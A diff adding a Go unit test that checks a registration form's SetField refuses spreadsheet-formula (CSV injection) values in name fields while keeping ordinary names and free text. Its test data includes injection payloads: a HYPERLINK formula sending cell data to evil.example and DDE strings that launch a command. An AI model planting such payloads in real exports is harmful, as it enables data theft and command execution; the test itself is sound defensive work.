@@ -229,3 +229,48 @@ func TestConfigValidateStatusKeyAndIMAP(t *testing.T) {
 		t.Errorf("got\n%v\nwant\n%s", err, want)
 	}
 }
+
+// Name fields refuse what a spreadsheet would run; names that only start
+// with a dash, and free text, are kept as written.
+func TestSetFieldRefusesFormulasInNames(t *testing.T) {
+	refused := []string{
+		"=1+1", `=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+1", "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
+		" =1+1", "\t=1", "＝1+1", "＋1", "＠SUM(1)",
+		"-2+3+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "-1", "-.5", "-(1)", "--1", "-+1", "-=1", "-@x", `-"a"`, "-'a'",
+		"-A1", "-A1+B1", "-XFD1048576", "-$B$2", "-B$2*3", "- 2", "-SUM(A1:A9)", "-HYPERLINK(\"x\")", "-_xlfn.WEBSERVICE(\"x\")",
+		"-Sheet1!A1", "-x|y", "－1+1", "-X1 Robotics",
+	}
+	for _, v := range refused {
+		for _, f := range []string{"company_name", "contact_name", "contact_role", "competing_vendors"} {
+			var r registration.Record
+			err := SetField(&r, f, v)
+			var fe *FieldError
+			if !errors.As(err, &fe) || fe.Field != f || !strings.Contains(fe.Reason, "like a spreadsheet formula") {
+				t.Errorf("SetField(%s, %q) = %v, want a formula refusal on %s", f, v, err, f)
+			}
+		}
+	}
+	var r registration.Record
+	if err := SetField(&r, "contact_email", "=1+1@globex.example"); err == nil {
+		t.Error("an address starting with = was stored")
+	}
+	for _, v := range []string{"-ity Labs", "- Acme", "-", "-abc def", "-ity Labs (Berlin)", "-abcd1", "3M", "1&1 Internet", "AT&T",
+		"O'Brien & Sons", "Yahoo!", "Ben & Jerry's | EU", "Müller-Lüdenscheidt", "e.on"} {
+		var r registration.Record
+		if err := SetField(&r, "company_name", v); err != nil || r.CompanyName != v {
+			t.Errorf("SetField(company_name, %q) = %v, stored %q", v, err, r.CompanyName)
+		}
+	}
+	// Free text keeps what the partner wrote.
+	for _, f := range []string{"problem", "solution_fit", "services_needed"} {
+		for _, v := range []string{"=> needs SSO", "+1 on audit logs", "@finance wants exports", "- SSO\n- audit logs", "-2+3 is how they count"} {
+			var r registration.Record
+			if err := SetField(&r, f, v); err != nil {
+				t.Errorf("SetField(%s, %q) = %v", f, v, err)
+			}
+			if got, _ := r.Get(f); got != v {
+				t.Errorf("%s stored %q, want %q", f, got, v)
+			}
+		}
+	}
+}
